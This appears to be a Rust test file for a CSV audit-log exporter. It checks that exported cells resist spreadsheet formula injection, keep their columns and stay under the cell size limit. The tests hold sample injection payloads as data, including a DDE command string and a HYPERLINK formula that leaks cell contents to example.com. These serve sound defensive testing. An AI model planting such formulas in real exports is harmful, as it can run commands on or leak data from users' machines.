use proptest::prelude::*;

use super::*;

/// What spreadsheets have been made to run, and what has slipped past those who tried to stop it.
const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "  =1",
    "\u{a0}=1",
    "\u{3000}＝1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1\"",
    "\"",
    "\",=1,\"",
    "a\n=1",
    "a\r\n\t @b",
    "a;=1",
    "a; -1",
    ";;=1",
    "'=1",
    "''",
    "x\"\r\n=1,\"",
    "\u{0}=1",
    "\u{feff}=1",
    "\u{200b}=1",
    "\u{202e}=1",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"Click\")",
    "%0A=1",
    " ",
    "",
    "ä,ö",
    "日本語\u{1b}[2J",
    "−1",
];

/// Reads rows back with a reader that is not ours.
fn parsed(out: &[u8]) -> Vec<Vec<String>> {
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).flexible(false).from_reader(out);
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Text that a spreadsheet, or one that separates otherwise, would run.
fn runs(cell: &str) -> bool {
    cell.split(['\n', ';', '\r', '\t'])
        .any(|part| part.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
}

/// What a cell means, by the rules that the module documents.
fn meant(cell: &str) -> String {
    let begins = |part: &str| part.trim_start().starts_with('\'');
    let strip = |part: &str| {
        if begins(part) && part.starts_with('\'') { part[1..].to_owned() } else { part.to_owned() }
    };
    let lines =
        cell.split('\n').map(|line| line.split(';').map(strip).collect::<Vec<_>>().join(";"));
    lines.collect::<Vec<_>>().join("\n")
}

/// What a text is without an apostrophe that was added: shown on lines that end alike.
fn told(text: &str) -> String {
    let mut made = String::new();
    for c in text.replace("\r\n", "\n").chars() {
        match c {
            '\r' | '\n' => made.push('\n'),
            '\t' => made.push(' '),
            c if is_harmful(c) => write!(made, "\\u{{{:x}}}", u32::from(c)).unwrap(),
            c => made.push(c),
        }
    }
    made
}

/// An event that has a text wherever it can have one.
fn event_of(text: &str) -> Event {
    let raw = serde_json::value::to_raw_value(text).unwrap();
    let some = || Some(text.to_owned());
    let actor = Actor { kind: some(), id: some(), name: some(), email: some(), ..Actor::default() };
    let target = Target { kind: some(), id: some(), name: some() };
    Event {
        trail: text.into(),
        seq: u64::MAX,
        id: text.into(),
        recorded_at: text.into(),
        action: text.into(),
        actor: Some(Actor { on_behalf_of: Some(Box::new(actor.clone())), ..actor }),
        targets: vec![target.clone(), target.clone(), target],
        details: Some(raw.clone()),
        changes: Some(Changes { before: Some(raw.clone()), after: Some(raw) }),
        error: Some(Error { code: some(), message: some() }),
        context: Some(Context { ip: some(), user_agent: some(), ..Context::default() }),
        ..Event::default()
    }
}

fn check(text: &str) {
    let event = event_of(text);
    let mut out = header().as_bytes().to_vec();
    row(&event, &mut out);
    let rows = parsed(&out);
    assert_eq!(rows.len(), 2, "{text:?}");
    assert_eq!(rows[0].len(), COLUMNS_COUNT);
    for (name, cell) in rows[0].iter().zip(&rows[1]) {
        assert!(!runs(cell), "{name}: {cell:?}");
        assert!(!cell.chars().any(|c| is_harmful(c) && c != '\n'), "{name}: {cell:?}");
    }
    let at = |name| &rows[1][rows[0].iter().position(|column| column == name).unwrap()];
    assert_eq!(meant(at("actor_id")), told(text));
    assert_eq!(meant(at("target_name")), told(text));
    assert_eq!(at("seq"), "18446744073709551615");
    assert!(out.ends_with(b"\r\n"));
}

#[test]
fn hostile_cells_come_back_as_text() {
    for text in HOSTILE {
        check(text);
        for other in HOSTILE {
            check(&format!("{text}{other}"));
        }
    }
}

proptest! {
    #[test]
    fn any_text_comes_back_as_text(text in "[=+@'\"\\-,;\\s\\PCa\u{202e}\u{0}＝]{0,20}") {
        check(&text);
    }

    #[test]
    fn any_unicode_comes_back_as_text(text in any::<String>()) {
        check(&text);
    }
}

#[test]
fn a_row_has_each_thing_in_its_column() {
    let json = r#"{"trail":"t","seq":7,"id":"i","recorded_at":"r","occurred_at":"o","action":"file.read","category":"data_access",
        "outcome":"success","phase":"outcome","ref":"x","source":{"id":"s","seq":3},"recorded_by":"key:1","credential_subject":"al",
        "actor":{"type":"service","id":"job","name":"Job","email":"j@example.com","auth":{"method":"m","token_id":"t1"},
            "on_behalf_of":{"type":"user","id":"al","name":"Al","email":"a@example.com"}},
        "targets":[{"type":"file","id":"a","name":"A"},{"type":"bucket","id":"b"},{"type":"x","id":"y","name":"Y"}],
        "subjects":[{"type":"person","id":"p"}],"changes":{"before":null,"after":{"a":[1,2]}},"details":{"b":"c"},
        "error":{"code":"E","message":"no"},
        "context":{"ip":"192.0.2.1","user_agent":"ua","request_id":"rq","correlation_id":"co","session_id":"se","trace_id":"tr",
            "span_id":"sp","service":"sv","host":"h","http":{"method":"GET","path":"/p","route":"/r","status":200,"duration_ms":1.50}}}"#;
    let mut out = header().as_bytes().to_vec();
    row(&Event::read(json).unwrap(), &mut out);
    let rows = parsed(&out);
    let told: Vec<_> = rows[0].iter().zip(&rows[1]).map(|(k, v)| format!("{k}={v}")).collect();
    let expected = r#"trail=t seq=7 id=i recorded_at=r occurred_at=o actor_type=service actor_id=job actor_name=Job
        actor_email=j@example.com actor_auth_method=m actor_token_id=t1 on_behalf_of_type=user on_behalf_of_id=al
        on_behalf_of_name=Al on_behalf_of_email=a@example.com action=file.read category=data_access outcome=success
        phase=outcome ref=x sentence=Job,_on_behalf_of_Al,_read_file_A_in_bucket_b_and_1_more target_type=file target_id=a
        target_name=A more_targets=bucket_b;_x_y_(Y) subjects=person_p ip=192.0.2.1 user_agent=ua service=sv host=h
        correlation_id=co request_id=rq session_id=se trace_id=tr span_id=sp http_method=GET http_path=/p http_route=/r
        http_status=200 http_duration_ms=1.50 error_code=E error_message=no changes_before=null
        changes_after={"a":[1,2]} details={"b":"c"} recorded_by=key:1 credential_subject=al source_id=s source_seq=3"#;
    let expected: Vec<_> = expected.split_whitespace().map(|cell| cell.replace('_', " ")).collect();
    assert_eq!(told.iter().map(|cell| cell.replace('_', " ")).collect::<Vec<_>>(), expected);
    out.clear();
    row(&Event::default(), &mut out);
    assert_eq!(
        parsed(&out)[0].len(),
        COLUMNS_COUNT,
        "an event of which all was erased is a row, too"
    );
}

#[test]
fn a_cell_is_never_longer_than_a_spreadsheet_holds() {
    for text in [
        "x".repeat(100_000),
        "\u{1f600}".repeat(50_000),
        "\u{0}".repeat(50_000),
        ";=".repeat(50_000),
    ] {
        let cell = cell(&text);
        assert!(cell.encode_utf16().count() <= 32_767);
        assert!(cell.ends_with('…'));
    }
    let fits = "x".repeat(CELL_UNITS_MAX);
    assert_eq!(cell(&fits), fits);
}
